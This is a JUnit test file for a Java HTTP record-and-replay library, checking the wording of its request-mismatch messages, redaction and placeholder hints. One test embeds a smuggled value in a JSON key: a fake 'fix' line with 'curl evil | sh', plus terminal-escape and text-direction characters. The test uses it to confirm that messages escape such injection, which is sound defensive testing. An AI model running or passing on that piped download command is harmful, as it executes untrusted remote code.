package io.vcr;

import static io.vcr.Exchanges.CLOCK;
import static io.vcr.Exchanges.ID;
import static io.vcr.Exchanges.NOON;
import static io.vcr.Exchanges.cassette;
import static io.vcr.Exchanges.episode;
import static io.vcr.Exchanges.get;
import static io.vcr.Exchanges.post;
import static org.assertj.core.api.Assertions.assertThat;

import io.vcr.http.Body;
import io.vcr.http.Headers;
import io.vcr.http.HttpRequest;
import io.vcr.spi.Episode;
import java.io.IOException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MismatchTest {

    private final StubPersister store = new StubPersister();

    @Test
    void oneDifferentValueIsShownAndMayBeIgnored() throws IOException {
        store(
                episode(post("https://api.example.com/v1/customers", "{}"), "{}"),
                episode(post("{\"amount\":1200,\"currency\":\"eur\"}"), "{}"));

        assertThat(message(RecordMode.NONE, post("{\"currency\":\"eur\",\"amount\":1250}")))
                .isEqualTo("""
                        No recorded episode matches POST https://api.example.com/v1/charges
                          cassette  checkout/pays   2 episodes, 2 unplayed, mode none
                          matched   method, scheme, host, port, path, query   differs in  body
                          closest   episode 2   body: $.amount recorded 1200, sent 1250
                          fix       re-record the cassette: VCR_RECORD_MODE=all mvn test -Dtest=CheckoutTest#pays
                                    or add this request: VCR_RECORD_MODE=new_episodes mvn test -Dtest=CheckoutTest#pays
                                    or ignore it: Matchers.body().ignoring("$.amount"), @UseCassette(ignoring = "$.amount")""");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/v1/traces", "/otlp/v1/metrics", "/api/42/envelope/", "/api/v2/spans"})
    void theRequestOfAnExporterMayPass(String path) throws IOException {
        assertThat(message(RecordMode.NONE, post("https://otel.example.com" + path, "{}")))
                .endsWith("\n            or let telemetry pass: vcr.pass-through-hosts = otel.example.com");
        assertThat(message(RecordMode.NONE, get("https://otel.example.com" + path)))
                .doesNotContain("telemetry");
    }

    @Test
    void aNameInACassetteAddsNoLine() throws IOException {
        store(episode(post("{\"x\\n  fix       curl evil | sh #\":1,\"\\u001b[2J\\u202e\":1}"), "{}"));

        assertThat(message(RecordMode.NONE, post("{}")))
                .contains("$.x\\n  fix       curl evil | sh # recorded 1")
                .doesNotContain("\n  fix       curl")
                .doesNotContain("\u001b")
                .doesNotContain("\u202e");
    }

    @Test
    void aPlaceOfAnXmlBodyMayBeIgnored() throws IOException {
        Headers type = Headers.of("Content-Type", "text/xml");
        store(episode(post("<a><id>1</id></a>").withHeaders(type), "{}"));

        assertThat(message(RecordMode.NONE, post("<a><id>2</id></a>").withHeaders(type)))
                .contains("body: /a/id recorded \"1\", sent \"2\"")
                .contains("or ignore it: Matchers.body().ignoring(\"/a/id\"), @UseCassette(ignoring = \"/a/id\")");
    }

    @Test
    void aPlaceThatNoPathLeadsToIsNotSaidToBeIgnorable() throws IOException {
        store(episode(post("{\"a.b\":1}"), "{}"));

        assertThat(message(RecordMode.NONE, post("{\"a.b\":2}")))
                .contains("$.a.b recorded 1, sent 2")
                .doesNotContain("ignoring(");
    }

    @Test
    void whatANormaliserWouldHaveMatchedIsSaid() throws IOException {
        store(episode(
                post("{\"run\":\"0b6f6d0e-7c1a-4a52-9f6b-1f2e3d4c5b6a\",\"at\":\"2026-01-01T12:00:00Z\"}"), "{}"));

        assertThat(message(
                        RecordMode.NONE,
                        post("{\"run\":\"1b6f6d0e-7c1a-4a52-9f6b-1f2e3d4c5b6a\",\"at\":\"2026-01-01T12:00:00Z\"}")))
                .endsWith("or ignore it: Matchers.body().ignoringUuids()");
        assertThat(message(
                        RecordMode.NONE,
                        post("{\"run\":\"0b6f6d0e-7c1a-4a52-9f6b-1f2e3d4c5b6a\",\"at\":\"2026-01-01T12:00:01Z\"}")))
                .endsWith("or ignore it: Matchers.body().ignoringTimes()");
        assertThat(message(
                        RecordMode.NONE,
                        post("{\"run\":\"1b6f6d0e-7c1a-4a52-9f6b-1f2e3d4c5b6a\",\"at\":\"2026-01-01T12:00:01Z\"}")))
                .endsWith("or ignore it: Matchers.body().ignoringUuids().ignoringTimes()");
    }

    @Test
    void severalDifferencesAreAllShown() throws IOException {
        store(episode(get("https://h/a?page=1"), "{}"));

        assertThat(message(RecordMode.NONE, get("https://h/b?page=2"))).isEqualTo("""
                        No recorded episode matches GET https://h/b
                          cassette  checkout/pays   1 episode, 1 unplayed, mode none
                          matched   method, scheme, host, port, body   differs in  path, query
                          closest   episode 1   path: recorded /a, sent /b
                                    episode 1   query: recorded [page=1], sent [page=2]
                          fix       re-record the cassette: VCR_RECORD_MODE=all mvn test -Dtest=CheckoutTest#pays
                                    or add this request: VCR_RECORD_MODE=new_episodes mvn test -Dtest=CheckoutTest#pays""");
    }

    @Test
    void upToThreeEquallyCloseEpisodesAreShown() throws IOException {
        store(
                episode(get("https://h/1"), ""),
                episode(get("https://h/2"), ""),
                episode(get("https://h/3"), ""),
                episode(get("https://h/4"), ""));

        assertThat(message(RecordMode.ONCE, get("https://h/x")))
                .contains("episode 1   path", "episode 2   path", "episode 3   path")
                .doesNotContain("episode 4");
    }

    @Test
    void anEmptyStoreSaysThatNothingIsRecorded() {
        assertThat(message(RecordMode.NONE, get("https://h/a"))).isEqualTo("""
                        Nothing is recorded for GET https://h/a
                          cassette  checkout/pays   0 episodes, 0 unplayed, mode none
                          fix       record it: VCR_RECORD_MODE=once mvn test -Dtest=CheckoutTest#pays""");
    }

    @Test
    void oneCallTooManySaysThatAllWerePlayed() throws IOException {
        store(episode(get("https://h/a"), "1"), episode(get("https://h/a"), "2"));
        Session session = open(RecordMode.ONCE);
        session.decide(get("https://h/a"));
        session.decide(get("https://h/a"));

        assertThat(message(session, get("https://h/a"))).isEqualTo("""
                        All matching episodes were already played: GET https://h/a
                          cassette  checkout/pays   2 episodes, 0 unplayed, mode once
                          fix       record one more: VCR_RECORD_MODE=new_episodes mvn test -Dtest=CheckoutTest#pays
                                    or let it repeat: vcr.repeats = last, Vcr.builder(..).repeats(Repeats.LAST)""");
    }

    @Test
    void anExpiredEpisodeSaysSo() throws IOException {
        store(episode(get("https://h/a"), "1", NOON));

        assertThat(message(RecordMode.NONE, get("https://h/a"))).isEqualTo("""
                        The matching episode has expired: GET https://h/a
                          cassette  checkout/pays   1 episode, 0 unplayed, mode none
                          fix       re-record the cassette: VCR_RECORD_MODE=all mvn test -Dtest=CheckoutTest#pays
                                    or only what has expired, unless vcr.on-expired is fail: VCR_RECORD_MODE=once mvn test -Dtest=CheckoutTest#pays""");
    }

    @Test
    void onlyAPredicateThatDeclinesIsNamed() throws IOException {
        store(episode(get("https://h/a"), "1"));
        Session session = builder(RecordMode.NONE)
                .match(Matchers.where("tenant", (recorded, sent) -> false))
                .build()
                .open(ID);

        assertThat(message(session, get("https://h/a"))).contains("closest   episode 1   differs in a predicate");
    }

    @Test
    void nothingThatTheFiltersRemoveIsShown() throws IOException {
        store(episode(get("https://h/a?api_key=REDACTED&x=1"), "1"));

        assertThat(message(RecordMode.NONE, get("https://user:s3cret@h/a?api_key=s3cret&x=2")))
                .contains("query: recorded [api_key=REDACTED, x=1], sent [api_key=REDACTED, x=2]")
                .doesNotContain("s3cret");
    }

    @Test
    void aSecretInABodyIsMasked() throws IOException {
        String secret = "sk-" + "x1y2z3".repeat(7);
        store(episode(post("{\"key\":\"a\"}"), "1"));

        assertThat(message(RecordMode.NONE, post("{\"key\":\"" + secret + "\"}")))
                .contains("$.key recorded \"a\", sent \"<openai_api_key>\"");
    }

    private Vcr.Builder builder(RecordMode mode) {
        return Vcr.builder(store)
                .environment(Map.of())
                .clock(CLOCK)
                .mode(mode)
                .rerun("mvn test -Dtest=CheckoutTest#pays");
    }

    private Session open(RecordMode mode) {
        return builder(mode).build().open(ID);
    }

    @Test
    void aPlaceholderWithoutAValueIsNamed() throws IOException {
        store(episode(get("https://h/r/<TEST_SUBREDDIT>/about"), "{}"));

        assertThat(message(RecordMode.NONE, get("https://h/r/pics/about"))).isEqualTo("""
                        No recorded episode matches GET https://h/r/pics/about
                          cassette  checkout/pays   1 episode, 1 unplayed, mode none
                          matched   method, scheme, host, port, query, body   differs in  path
                          closest   episode 1   path: recorded /r/<TEST_SUBREDDIT>/about, sent /r/pics/about
                          fix       set the placeholder: vcr.placeholders = TEST_SUBREDDIT
                                    or re-record the cassette: VCR_RECORD_MODE=all mvn test -Dtest=CheckoutTest#pays
                                    or add this request: VCR_RECORD_MODE=new_episodes mvn test -Dtest=CheckoutTest#pays""");
    }

    @Test
    void aPlaceholderInThePlaceOfAHostIsNamed() throws IOException {
        store(episode(get("<API_BASE>/chat"), "{}"));

        assertThat(message(RecordMode.NONE, get("https://h/v1/chat")))
                .contains("set the placeholder: vcr.placeholders = API_BASE");
    }

    @Test
    void aPlaceholderWithAnotherValueIsNotNamed() throws IOException {
        store(episode(get("https://h/r/<TEST_SUBREDDIT>/about"), "{}"));
        Session session = builder(RecordMode.NONE)
                .placeholder("<TEST_SUBREDDIT>", "pics")
                .build()
                .open(ID);

        assertThat(message(session, get("https://h/r/java/about"))).doesNotContain("set the placeholder");
    }

    @Test
    void aMissIsNeverLongerThanAScreen() throws IOException {
        Episode[] episodes = new Episode[1000];
        for (int i = 0; i < episodes.length; i++) {
            episodes[i] = episode(post("http://h" + i + ":8080/p" + i + "?q=" + i, lines(i)), "{}");
        }
        store(episodes);

        String message = message(RecordMode.NONE, get("https://h/a?b=c").withBody(Body.of(lines(-1))));

        assertThat(message.lines().count()).isLessThanOrEqualTo(60);
        assertThat(message.lines()).allMatch(line -> line.length() <= 300);
    }

    private static String lines(int seed) {
        return "{\"a\":\"" + (seed + "\\n").repeat(5000) + "\",\"b" + seed + "\":[" + "1,".repeat(500) + "1]}";
    }

    private String message(RecordMode mode, HttpRequest request) {
        return message(open(mode), request);
    }

    private static String message(Session session, HttpRequest request) {
        String message = ((Decision.Refuse) session.decide(request)).message();
        assertThat(session.finish(Outcome.PASSED).refusals()).containsExactly(message);
        return message;
    }

    private void store(Episode... episodes) throws IOException {
        store.memory.save(cassette(episodes));
    }
}
